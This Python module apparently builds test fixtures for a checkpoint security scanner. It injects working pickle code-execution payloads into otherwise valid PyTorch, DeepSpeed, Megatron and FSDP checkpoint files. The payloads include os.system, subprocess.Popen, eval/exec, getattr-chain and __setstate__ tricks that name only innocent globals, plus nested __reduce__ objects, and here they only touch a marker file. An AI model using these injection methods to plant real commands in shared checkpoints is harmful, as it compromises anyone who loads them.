"""Hostile pickles: payloads that write a marker file when a real unpickler runs them, injected into
otherwise valid checkpoint files copied from `sample_ckpts/`.

A payload is raw protocol-2 opcodes that push exactly one value. `inject` puts it into a pickle either as
a new key of the top-level dict (`setitem`) or before everything, popped again (`prefix`, for pickles
whose top object is not a dict or that use protocol-4 frames). `build_corpus` writes the hostile copies;
`CONTROL_SCRIPT` proves each payload is live: run with the real `pickle` / `torch.load(weights_only=False)`
it creates the marker.
"""

from __future__ import annotations

import io
import pickletools
import shlex
import shutil
import struct
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

# --- opcodes --------------------------------------------------------------------------------------

MARK, STOP, POP, TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE = b"(", b".", b"0", b"t", b"\x85", b"\x86", b")"
REDUCE, BUILD, NONE, EMPTY_DICT, SETITEM, LIST, NEWOBJ, EMPTY_LIST, APPEND = (
    b"R",
    b"b",
    b"N",
    b"}",
    b"s",
    b"l",
    b"\x81",
    b"]",
    b"a",
)


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def call1(fn: bytes, arg: bytes) -> bytes:
    return fn + arg + TUPLE1 + REDUCE


def getattr_(obj: bytes, name: str) -> bytes:
    return glob("builtins", "getattr") + obj + text(name) + TUPLE2 + REDUCE


# --- payloads: (opcodes pushing one value, the globals a warning must name) ----------------------


def _cmd(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def payloads(marker: Path) -> dict[str, tuple[bytes, list[str]]]:
    cmd, code = _cmd(marker), _code(marker)
    exec_via_print = call1(getattr_(getattr_(glob("builtins", "print"), "__self__"), "exec"), text(code))
    subclasses = (
        getattr_(getattr_(getattr_(EMPTY_TUPLE, "__class__"), "__base__"), "__subclasses__") + EMPTY_TUPLE + REDUCE
    )
    return {
        "os_system": (call1(glob("os", "system"), text(cmd)), ["os.system"]),
        "posix_system": (call1(glob("posix", "system"), text(cmd)), ["posix.system"]),
        "subprocess_popen": (
            call1(glob("subprocess", "Popen"), MARK + text("touch") + text(str(marker)) + LIST),
            ["subprocess.Popen"],
        ),
        "builtins_eval": (call1(glob("builtins", "eval"), text(code)), ["builtins.eval"]),
        "builtins_exec": (call1(glob("builtins", "exec"), text(code)), ["builtins.exec"]),
        # getattr(__import__('os'), 'system')(cmd)
        "import_getattr": (
            call1(getattr_(call1(glob("builtins", "__import__"), text("os")), "system"), text(cmd)),
            ["builtins.__import__"],
        ),
        # getattr(getattr(print, '__self__'), 'exec')(code): only an innocent-looking global is named
        "getattr_chain_exec": (exec_via_print, ["builtins.print"]),
        # ().__class__.__base__.__subclasses__() next to the exec chain
        "subclasses_chain": (MARK + subclasses + exec_via_print + TUPLE, ["builtins.print"]),
        # a __reduce__ chain: os.system(str(eval(repr(cmd))))
        "reduce_chain": (
            call1(
                glob("os", "system"), call1(glob("builtins", "str"), call1(glob("builtins", "eval"), text(repr(cmd))))
            ),
            ["os.system", "builtins.eval"],
        ),
        # BUILD sets an instance attribute __setstate__ = os.system, the second BUILD calls it
        "setstate_injection": (
            glob("argparse", "Namespace")
            + EMPTY_TUPLE
            + NEWOBJ
            + NONE
            + EMPTY_DICT
            + text("__setstate__")
            + glob("os", "system")
            + SETITEM
            + TUPLE2
            + BUILD
            + text(cmd)
            + BUILD,
            ["os.system"],
        ),
        # protocol 0 INST and OBJ, protocol 4 STACK_GLOBAL
        "inst_opcode": (MARK + text(cmd) + b"i" + b"os\nsystem\n", ["os.system"]),
        "obj_opcode": (MARK + glob("os", "system") + text(cmd) + b"o", ["os.system"]),
        "stack_global": (call1(text("os") + text("system") + b"\x93", text(cmd)), ["os.system"]),
    }


# --- injecting into a pickle ----------------------------------------------------------------------


def _split_pickles(data: bytes) -> list[bytes]:
    """A legacy torch file is several pickles in a row followed by raw bytes: return the pickles and the tail."""
    out, pos = [], 0
    for _ in range(5):
        f = io.BytesIO(data[pos:])
        end = None
        for op, _arg, p in pickletools.genops(f):
            if op.name == "STOP":
                end = p + 1
        out.append(data[pos : pos + end])
        pos += end
    out.append(data[pos:])
    return out


def inject(pkl: bytes, payload: bytes, mode: str, key: str = "ckpt_hostile") -> bytes:
    assert pkl[:1] == b"\x80" and pkl[-1:] == STOP
    if mode == "setitem":
        return pkl[:-1] + text(key) + payload + SETITEM + STOP
    if mode == "prefix":
        return pkl[:2] + payload + POP + pkl[2:]
    raise ValueError(mode)


def rewrite_zip_pickle(src: Path, dst: Path, edit) -> None:
    """Copy a torch.save zip with its `data.pkl` replaced by `edit(old bytes)`; other members unchanged."""
    with zipfile.ZipFile(src) as zin:
        members = [(i, zin.read(i.filename)) for i in zin.infolist()]
    tmp = dst.with_name(dst.name + ".building")
    with zipfile.ZipFile(tmp, "w", compression=zipfile.ZIP_STORED) as zout:
        for info, data in members:
            if info.filename.endswith("/data.pkl"):
                data = edit(data)
            zout.writestr(zipfile.ZipInfo(info.filename, date_time=info.date_time), data)
    tmp.replace(dst)


def poison_file(path: Path, payload_bytes: bytes, mode: str, key: str = "ckpt_hostile") -> None:
    """Inject into the file at `path` in place: a torch zip's data.pkl, a plain pickle, or a legacy torch file."""
    raw = path.read_bytes()
    if zipfile.is_zipfile(path):
        rewrite_zip_pickle(path, path, lambda d: inject(d, payload_bytes, mode, key))
        return
    parts = _split_pickles(raw) if _is_legacy(raw) else None
    if parts is not None:  # the object is the 4th pickle (magic, protocol, sys info, object, storage keys)
        parts[3] = inject(parts[3], payload_bytes, mode, key)
        path.write_bytes(b"".join(parts))
        return
    path.write_bytes(inject(raw, payload_bytes, mode, key))


def _is_legacy(raw: bytes) -> bool:
    # compare bytes: never unpickle a hostile file here (a truncated prefix still runs its REDUCEs)
    return raw.startswith(b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little"))


# --- the corpus -----------------------------------------------------------------------------------

#: (sample group, sample name, file inside it to poison, injection mode, which commands apply)
TARGETS = [
    ("deepspeed", "zero2_bf16", "global_step4/mp_rank_00_model_states.pt", "setitem", "ds"),
    ("deepspeed", "zero2_bf16", "global_step4/bf16_zero_pp_rank_1_mp_rank_00_optim_states.pt", "setitem", "ds"),
    ("deepspeed", "zero3_bf16", "global_step4/zero_pp_rank_0_mp_rank_00_model_states.pt", "setitem", "ds"),
    ("megatron", "gpt_tp2_pp2", "global_step4/layer_03-model_01-model_states.pt", "setitem", "pipe"),
    ("megatron", "gpt_tp2_pp2", "global_step4/mp_rank_02_model_states.pt", "setitem", "pipe"),
    ("megatron", "gpt_tp2_pp2", "global_step4/bf16_zero_pp_rank_0_mp_rank_01_optim_states.pt", "setitem", "pipe"),
    ("accelerate", "accelerate_ddp", "scheduler.bin", "setitem", "plain"),
    ("accelerate", "accelerate_ddp", "custom_checkpoint_0.pkl", "setitem", "plain"),
    ("accelerate", "accelerate_ddp", "random_states_1.pkl", "setitem", "plain"),
    ("accelerate", "accelerate_ddp", "optimizer.bin", "setitem", "plain"),
    ("accelerate", "accelerate_deepspeed", "pytorch_model/mp_rank_00_model_states.pt", "setitem", "ds"),
    ("fsdp", "fsdp2_dcp", ".metadata", "prefix", "plain"),
    ("fsdp", "fsdp1_sharded", "rank1.pt", "prefix", "plain"),
    ("universal", "zero2_bf16_universal", "global_step4_universal/mp_rank_00_model_states.pt", "setitem", "plain"),
    (
        "universal",
        "zero2_bf16_universal",
        "global_step4_universal/zero/blocks.0.attn_proj.weight/fp32.pt",
        "setitem",
        "plain",
    ),
    ("torch", "plain.pt", "", "setitem", "plain"),
]


@dataclass
class Hostile:
    name: str
    ckpt: Path  # what to point the commands at
    poisoned: Path  # the file holding the payload
    marker: Path  # created if the payload ever runs
    globals: list[str]  # names a warning must show
    kind: str  # "ds" (to-universal applies), "pipe" (check-tp-sync + to-universal), "plain"
    loader: str = "torch"  # how CONTROL_SCRIPT loads it: "torch" or "pickle"
    extra: dict = field(default_factory=dict)


def _copy_sample(samples: Path, group: str, name: str, dst: Path) -> Path:
    src = samples / group / name
    out = dst / name
    if src.is_dir():
        shutil.copytree(src, out)
    else:
        out.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(src, out)
    return out


def build_corpus(samples: Path, root: Path, markers: Path) -> list[Hostile]:
    """Every payload alone (rotating over the targets), and every target with all payloads at once."""
    markers.mkdir(parents=True, exist_ok=True)
    out: list[Hostile] = []
    names = list(payloads(Path("x")))

    def make(case: str, target: tuple, chosen: list[str]) -> Hostile:
        group, sname, rel, mode, kind = target
        ck = _copy_sample(samples, group, sname, root / case)
        f = ck / rel if rel else ck
        marker = markers / case
        pl = payloads(marker)
        want: list[str] = []
        for i, p in enumerate(chosen):
            code, gl = pl[p]
            poison_file(f, code, mode, key=f"ckpt_hostile_{i}")
            want += [g for g in gl if g not in want]
        loader = "pickle" if f.name == ".metadata" else "torch"
        return Hostile(case, ck, f, marker, want, kind, loader)

    for i, p in enumerate(names):
        out.append(make(f"p-{p}", TARGETS[i % len(TARGETS)], [p]))
    for i, t in enumerate(TARGETS):
        out.append(make(f"t{i:02d}-all-{t[1]}-{Path(t[2] or t[1]).name}", t, names))
    out += _deep_cases(root, markers, samples)
    out += _legacy_cases(root, markers)
    return out


class _Reduce:
    """pickles as `fn(*args)`: how a real malicious object hides a call deep inside a state dict."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def _deep_cases(root: Path, markers: Path, samples: Path) -> list[Hostile]:
    """Payloads nested deep inside real structures (not just a top-level key), re-saved with torch.save."""
    import os
    import pickle

    import torch

    out = []
    specs = [
        (
            "deep-ds-optim-param-group",
            ("deepspeed", "zero2_bf16", "global_step4/bf16_zero_pp_rank_0_mp_rank_00_optim_states.pt"),
            "ds",
            lambda sd, ev: sd["optimizer_state_dict"]["base_optimizer_state"]["param_groups"][0].__setitem__(
                "hook", ev
            ),
        ),
        (
            "deep-ds-model-config",
            ("deepspeed", "zero2_bf16", "global_step4/mp_rank_00_model_states.pt"),
            "ds",
            lambda sd, ev: sd["ds_config"].__setitem__("optimizer", {"params": {"lr": ev}}),
        ),
        (
            "deep-accel-scheduler-lambda",
            ("accelerate", "accelerate_ddp", "scheduler.bin"),
            "plain",
            lambda sd, ev: sd["lr_lambdas"].__setitem__(0, {"fn": ev}),
        ),
        (
            "deep-pipe-layer-weight-list",
            ("megatron", "gpt_tp2_pp2", "global_step4/layer_02-model_00-model_states.pt"),
            "pipe",
            lambda sd, ev: sd.__setitem__("extra", [1, (2, {"x": ev})]),
        ),
    ]
    for case, (group, name, rel), kind, place in specs:
        ck = _copy_sample(samples, group, name, root / case)
        f = ck / rel
        marker = markers / case
        sd = torch.load(f, map_location="cpu", weights_only=False)
        place(sd, _Reduce(os.system, _cmd(marker)))  # pickles as posix.system
        torch.save(sd, f)
        out.append(Hostile(case, ck, f, marker, ["posix.system"], kind))
    # DCP .metadata: a payload inside storage_meta, via pickle (protocol 4 frames and all)
    ck = _copy_sample(samples, "fsdp", "fsdp2_dcp", root / "deep-dcp-metadata")
    md = pickle.loads((ck / ".metadata").read_bytes())
    marker = markers / "deep-dcp-metadata"
    md.planner_data = dict(md.planner_data or {})
    md.planner_data["zz.hostile"] = (_Reduce(exec, _code(marker)),)
    (ck / ".metadata").write_bytes(pickle.dumps(md, protocol=4))
    out.append(Hostile("deep-dcp-metadata", ck, ck / ".metadata", marker, ["builtins.exec"], "plain", "pickle"))
    return out


def _legacy_cases(root: Path, markers: Path) -> list[Hostile]:
    """torch's pre-1.6 non-zip format (several pickles in a row, then the storages)."""
    import torch

    out = []
    for name in ("os_system", "import_getattr", "setstate_injection"):
        case = f"legacy-{name}"
        d = root / case
        d.mkdir(parents=True)
        f = d / "legacy.pt"
        torch.save(
            {"model": {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3)}, "step": 3},
            f,
            _use_new_zipfile_serialization=False,
        )
        marker = markers / case
        code, gl = payloads(marker)[name]
        poison_file(f, code, "setitem")
        out.append(Hostile(case, f, f, marker, gl, "plain"))
    return out


#: run in a fresh process with `python -c CONTROL_SCRIPT file loader ...`: loads each file the unsafe way
CONTROL_SCRIPT = r"""
import pickle, sys, time, warnings
warnings.simplefilter("ignore")
import torch
args = sys.argv[1:]
for f, how in zip(args[::2], args[1::2]):
    try:
        if how == "pickle":
            with open(f, "rb") as fh:
                pickle.load(fh)
        else:
            torch.load(f, map_location="cpu", weights_only=False)
    except BaseException as e:
        print(f"{f}: {type(e).__name__}: {e}"[:300], file=sys.stderr)
time.sleep(0.5)  # Popen'd touch processes finish
"""
